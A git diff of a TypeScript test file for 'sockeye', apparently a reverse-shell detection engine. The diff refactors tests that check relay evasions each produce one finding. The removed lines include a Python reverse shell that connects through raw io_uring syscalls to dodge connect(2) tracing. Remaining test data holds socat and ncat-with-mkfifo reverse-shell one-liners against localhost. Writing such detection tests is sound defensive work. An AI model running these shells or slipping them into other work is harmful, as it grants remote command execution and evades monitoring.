@@ -6,12 +6,11 @@
  * them. Each must give exactly one finding from the default configuration.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { Engine, ProcHostView, ProcessTable, builtinRules, type Finding } from "sockeye";
-import dgram from "node:dgram";
+import type { Engine, Finding } from "sockeye";
 import { mkdtempSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { PYTHON, Session, commandingListener, freePort, kernelTier, run } from "./harness.js";
+import { IO_URING_RELAY, PYTHON, Session, attachEngine, commandingListener, freePort, kernelTier, run, udpCommandingListener } from "./harness.js";
 
 const tier = kernelTier();
 
@@ -28,82 +27,6 @@ function draw(what: string, min: number, max: number): number {
   return n;
 }
 
-/**
- * A UDP "listener" for a client bound to `clientPort`: it sends the command there until the
- * answer comes back from that port (the client may not be up yet: early datagrams are lost),
- * then `exit`. UDP has no accept: the client's port is fixed by the test so the listener
- * knows where to send first.
- */
-async function udpCommander(clientPort: number): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
-  const sock = dgram.createSocket("udp4");
-  sock.on("error", () => {});
-  await new Promise<void>((resolve) => sock.bind(0, "127.0.0.1", resolve));
-  let got = "";
-  let resolveAnswered!: (ok: boolean) => void;
-  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
-  const timer = setInterval(() => sock.send("echo RELAY_$((6*7))\n", clientPort, "127.0.0.1"), 300);
-  sock.on("message", (msg, from) => {
-    if (from.port !== clientPort) return;
-    got += msg.toString();
-    if (got.includes("RELAY_42")) {
-      clearInterval(timer);
-      resolveAnswered(true);
-      // The rules read /proc of live processes: the shell lives a moment longer.
-      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), 1500);
-    }
-  });
-  setTimeout(() => { clearInterval(timer); resolveAnswered(false); }, 20_000).unref();
-  return { port: sock.address().port, answered, close: () => new Promise((resolve) => { clearInterval(timer); sock.close(() => resolve()); }) };
-}
-
-/**
- * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
- * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
- */
-const IO_URING_RELAY = `
-import ctypes, mmap, os, socket, struct, subprocess, sys, threading
-libc = ctypes.CDLL(None, use_errno=True)
-libc.syscall.restype = ctypes.c_long
-u32 = ctypes.c_uint32
-class SqOff(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
-class CqOff(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
-class Params(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
-IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
-def uring_connect(sock, host, port):
-    p = Params()
-    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
-    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
-    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
-    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
-    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
-    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
-    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
-    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
-    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
-    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
-    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
-    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
-    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
-    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
-s = socket.socket()
-uring_connect(s, sys.argv[1], int(sys.argv[2]))
-c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
-def up():
-    while True:
-        d = os.read(c.stdout.fileno(), 4096)
-        if not d: break
-        s.sendall(d)
-threading.Thread(target=up, daemon=True).start()
-while True:
-    d = s.recv(4096)
-    if not d: break
-    c.stdin.write(d); c.stdin.flush()
-c.wait()
-`;
-
 describe.runIf(tier.run)("kernel: relay evasions (no window, no hop count, decoys, UDP), default configuration", () => {
   let session: Session;
   let engine: Engine;
@@ -112,12 +35,7 @@ describe.runIf(tier.run)("kernel: relay evasions (no window, no hop count, decoy
 
   beforeAll(async () => {
     session = await Session.open();
-    const table = new ProcessTable({ host: new ProcHostView() });
-    table.seedFromProc();
-    engine = new Engine({ rules: builtinRules(), processes: table });
-    session.sensor.subscribe((events) => {
-      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as RelayFinding);
-    });
+    engine = attachEngine(session, findings);
   });
   afterAll(() => session?.close());
 
@@ -198,38 +116,30 @@ for d in ds: d.kill()
     expect(engine.stats().ruleState["RELAY-001"]!.abandoned).toBe(before);
   }, 60_000);
 
-  it("socat UDP:127.0.0.1:P EXEC:sh (a connected UDP socket, socketpair): one finding, transport udp", async () => {
+  /** Runs `cmd` (given the client's fixed port and the listener's) against a commanding UDP listener; expects one RELAY-001 finding, transport udp, naming `program`. */
+  async function caughtOnceOverUdp(cmd: (clientPort: number, port: number) => [string, ...string[]], program: string): Promise<void> {
     const clientPort = await freePort();
-    const listener = await udpCommander(clientPort);
+    const listener = await udpCommandingListener(clientPort);
     try {
-      const r = await run("timeout", ["-s", "KILL", "20", "socat", `UDP:127.0.0.1:${listener.port},sourceport=${clientPort}`, "EXEC:sh"]);
+      const r = await run("timeout", ["-s", "KILL", "20", ...cmd(clientPort, listener.port)]);
       expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
       await session.settle();
       const found = forPort(listener.port);
       expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
       expect(found[0]!.network.transport).toBe("udp");
-      expect(found[0]!.sockeye.relay.program.name).toBe("socat");
+      expect(found[0]!.sockeye.relay.program.name).toBe(program);
     } finally {
       await listener.close();
     }
+  }
+
+  it("socat UDP:127.0.0.1:P EXEC:sh (a connected UDP socket, socketpair): one finding, transport udp", async () => {
+    await caughtOnceOverUdp((client, p) => ["socat", `UDP:127.0.0.1:${p},sourceport=${client}`, "EXEC:sh"], "socat");
   }, 40_000);
 
   it("ncat -u with mkfifo: sh -i < F 2>&1 | ncat -u H P > F: one finding, transport udp", async () => {
-    const clientPort = await freePort();
-    const listener = await udpCommander(clientPort);
     const f = join(dir, "udp-fifo");
-    try {
-      const r = await run("timeout", ["-s", "KILL", "20", "bash", "-c",
-        `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | ncat -u -p ${clientPort} 127.0.0.1 ${listener.port} > ${f}`]);
-      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
-      await session.settle();
-      const found = forPort(listener.port);
-      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
-      expect(found[0]!.network.transport).toBe("udp");
-      expect(found[0]!.sockeye.relay.program.name).toBe("ncat");
-    } finally {
-      await listener.close();
-    }
+    await caughtOnceOverUdp((client, p) => ["bash", "-c", `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | ncat -u -p ${client} 127.0.0.1 ${p} > ${f}`], "ncat");
   }, 40_000);
 
   it("a relay whose connect goes through io_uring (IORING_OP_CONNECT, no connect(2)): one finding, the connect named unseen", async () => {
